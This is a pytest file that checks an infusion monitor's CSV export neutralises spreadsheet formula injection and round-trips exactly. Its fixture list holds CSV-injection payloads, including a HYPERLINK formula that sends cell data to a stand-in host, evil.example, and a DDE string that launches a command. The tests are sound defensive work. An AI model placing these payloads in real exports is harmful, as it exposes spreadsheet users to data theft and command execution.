"""The CSV export is safe to open in a spreadsheet (issue 10 item 10): a text cell that a
spreadsheet would run as a formula (=, +, -, @, tab, CR first) is written with a single
quote in front (OWASP "CSV Injection"), numbers are left alone, and import takes the
quote off again, so the round trip stays exact."""
from __future__ import annotations

import csv
import io

import pytest

from monitor.exports.csv_export import COLUMNS, NUMBER_COLUMNS, parse_text, to_csv
from monitor.exports.spreadsheet import FORMULA_START, neutralise, restore
from monitor.model import Event, Reading
from monitor.playback import replay
from monitor.replay_csv import parse_text as parse_recording
from monitor.store import Store
from monitor.store.transfer import insert_session

pytestmark = pytest.mark.both_engines  # on SQLite and on PostgreSQL (conftest.py)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"details")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1", "'=already quoted", "'tis fine", "plain note"]


@pytest.fixture
def hostile_session(store, protocol):
    text = "t_s,parameter,value,status\n0,hr,70,\n30,event,infusion_start,\n60,hr,72,\n90,event,session_end,\n"
    sid = replay(store, protocol, parse_recording(text), patient_ref="PT-CSV").session_id
    t = store._one("SELECT ended_at FROM sessions WHERE id = ?", (sid,))["ended_at"]
    for i, note in enumerate(HOSTILE):
        store.record_event(sid, Event(t + i, "note", note, "=AUTHOR" if i == 0 else "@RN"))
    store.put_reading(sid, Reading(t - 10, "spo2", 97.0, "ok", "=DEVICE()", "-detail"))
    store.flush()
    return sid


def cells(text: str) -> list[dict]:
    return [dict(zip(COLUMNS, r)) for r in list(csv.reader(io.StringIO(text, newline="")))[1:]]


def test_no_text_cell_starts_a_formula(store, hostile_session):
    text = to_csv(store, hostile_session)
    rows = cells(text)
    for row in rows:
        for col, v in row.items():
            if col not in NUMBER_COLUMNS:
                assert not v.startswith(FORMULA_START), (col, v)
    notes = [r["text"] for r in rows if r["type"] == "note"]
    assert notes == ["'" + n if n[0] in "=+-@\t\r'" else n for n in HOSTILE]
    assert {r["author"] for r in rows if r["type"] == "note"} == {"'=AUTHOR", "'@RN"}
    (reading,) = [r for r in rows if r["source"].endswith("DEVICE()")]
    assert (reading["source"], reading["detail"]) == ("'=DEVICE()", "'-detail")


def test_numbers_are_written_as_numbers(store, hostile_session):
    """A negative number (minutes before the infusion) is data, not a formula: no quote."""
    before = [r["min_from_infusion"] for r in cells(to_csv(store, hostile_session)) if r["record"] == "reading"]
    assert "-0.500" in before and not any(v.startswith("'") for v in before)


def test_the_round_trip_stays_exact(store, hostile_session, tmp_path):
    text = to_csv(store, hostile_session)
    parsed = parse_text(text, "export.csv")
    assert [e["text"] for e in parsed.events if e["type"] == "note"] == HOSTILE
    other = Store(tmp_path / "other.db")
    try:
        sid = insert_session(other, parsed.session, parsed.baselines, parsed.readings, parsed.alerts, parsed.events)
        assert to_csv(other, sid) == text
    finally:
        other.close()


def test_an_older_export_is_imported_as_written(store, hostile_session):
    """infusion-monitor-csv/1 files had no quotes added: a leading quote there is the text's own."""
    text = to_csv(store, hostile_session).replace("infusion-monitor-csv/2", "infusion-monitor-csv/1")
    text = text.replace(",''tis fine,", ",'tis fine,")
    notes = [e["text"] for e in parse_text(text, "old.csv").events if e["type"] == "note"]
    assert "'tis fine" in notes and "'=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")" in notes


@pytest.mark.parametrize("text", HOSTILE + ["", "'", "''", "=", "a=b"])
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text
